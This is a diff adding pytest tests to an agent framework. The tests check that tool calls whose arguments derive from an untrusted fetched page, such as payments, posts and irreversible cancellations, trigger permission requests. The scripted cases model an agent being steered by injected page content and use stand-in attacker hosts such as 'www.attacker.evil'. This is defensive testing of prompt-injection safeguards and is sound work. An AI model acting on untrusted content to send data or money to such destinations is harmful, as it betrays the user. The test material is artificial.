@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
-from forge import Agent, Answer, PermissionRequest, Scripted, ToolCall, rules, tool
+from forge import Agent, Answer, PermissionRequest, Scope, Scripted, ToolCall, rules, tool
+from forge.tools.file_read import FileRead
+from forge.tools.file_write import FileWrite
 from forge.tools.run_code.data_flow import read_flow
 
 sent: list[str] = []
@@ -241,3 +245,90 @@ async def test_what_a_script_returns_keeps_the_label():
     result = await agent.run("go")
     labels = [m.extra.get("labels") for m in result.messages if m.role == "tool"]
     assert labels[0] == [["untrusted", "fetch_page shop.example"]]
+
+
+@tool(permissions={"network"}, target="to", argument_aliases={"recipient": "to"})
+async def pay(to: str, amount: int = 1, urgent: bool = False) -> str:
+    """Pay something."""
+    sent.append(f"{to} {amount}")
+    return "paid"
+
+
+@tool(permissions={"write"}, irreversible=True)
+async def cancel_all() -> str:
+    """Cancel everything."""
+    sent.append("cancelled")
+    return "cancelled"
+
+
+@tool(permissions={"read"})
+async def look_up(word: str) -> str:
+    """Look up a word in the person's notes."""
+    return "found: team@home.example"
+
+
+async def run_more(code: str, prompt: str = "go", folder: Any = None) -> list[str]:
+    """Returns what was asked. Nobody says yes."""
+    sent.clear()
+    asked: list[str] = []
+
+    async def approve(request: PermissionRequest) -> Answer:
+        asked.append(request.ruling.reason if request.ruling else "")
+        return Answer.no()
+
+    tools = [fetch_page, read_note, post, pay, cancel_all, look_up, FileWrite(), FileRead()]
+    agent = Agent(
+        Scripted(ToolCall("run_code", {"code": code}), "done"),
+        tools=tools,
+        policy=rules("allow *"),
+        approve=approve,
+        code_mode=True,
+    )
+    async with agent:
+        await agent.run(prompt, scope=Scope(workspace=folder) if folder is not None else Scope())
+    return asked
+
+
+PAGE = "page = await fetch_page('https://shop.example')\n"
+PASSED = {
+    "a small number": "await pay('team@home.example', len(page))",
+    "a number of the text": "await pay('team@home.example', int(page.split()[-1].strip('.')))",
+    "a condition": "await pay('team@home.example', 1, 'Welcome' in page)",
+    "a long text": "await post('team@home.example', page * 9)",
+    "a short text": "await post('team@home.example', page[:3])",
+    "a call without arguments": "if 'Welcome' in page:\n    await cancel_all()",
+    "a loop of calls that cannot be undone": "for word in page.split():\n    await cancel_all()",
+    "a result of a tool that got it": "to = (await look_up(page[:7])).split()[-1]\nawait post(to)",
+    "a result of that result": "a = await look_up(page[:7])\nb = await look_up(a[:2])\nawait post(b.split()[-1])",
+    "a list": "await post(','.join([page[0], 'x']))",
+}
+
+
+@pytest.mark.parametrize("how", PASSED)
+async def test_each_value_of_an_untrusted_result_asks_in_a_call_that_changes_or_sends(how):
+    asked = await run_more(PAGE + PASSED[how])
+    assert len(asked) >= 1
+    assert "untrusted text of fetch_page" in asked[0]
+    assert not sent
+
+
+UNSTEERED = {
+    "constants, though the page has them": "await post('live.rekcatta.www/x', 'order 7419')",
+    "a number that the page has": "await pay('team@home.example', 7419)",
+    "a result of a trusted tool": "await post((await look_up('Welcome')).split()[-1])",
+    "a call without arguments": "await cancel_all()",
+}
+
+
+@pytest.mark.parametrize("how", UNSTEERED)
+async def test_a_script_that_was_written_before_is_not_steered_and_does_not_ask(how):
+    assert not await run_more(PAGE + UNSTEERED[how])
+    assert len(sent) == 1
+
+
+@pytest.mark.parametrize(("content", "is_untrusted"), [("page.split()[5][::-1]", True), ("'www.attacker.evil'", False)])
+async def test_a_file_that_a_script_writes_from_labelled_values_is_labelled(tmp_path, content, is_untrusted):
+    await run_more(f"{PAGE}await file_write('a.txt', {content})", folder=tmp_path)
+    assert (tmp_path / "a.txt").read_text() == "x/www.attacker.evil" if is_untrusted else "www.attacker.evil"
+    code = "text = await file_read('a.txt')\nawait post(text.split()[-1])"
+    assert bool(await run_more(code, folder=tmp_path)) is is_untrusted
